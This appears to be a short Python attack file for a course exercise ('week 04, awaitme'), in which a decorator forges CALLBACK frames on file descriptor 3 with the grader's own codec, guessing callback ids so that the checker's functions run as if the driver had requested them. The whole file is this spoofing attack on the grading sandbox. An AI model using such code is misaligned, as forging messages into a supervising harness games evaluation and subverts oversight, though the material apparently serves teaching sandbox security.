"""Calls functions of the check by guessed numbers, as if the driver had been asked to."""
# attack: week=04 exercise=awaitme
import os

from grader.sandbox import codec


def awaitme(function):
    for number in range(1, 50):
        value = codec.Node(0, [number, codec.Node(1, []), codec.Node(4, [])])
        os.write(3, codec.encode(codec.Frame(codec.CALLBACK, 10_000 + number, "", value)))
    return function
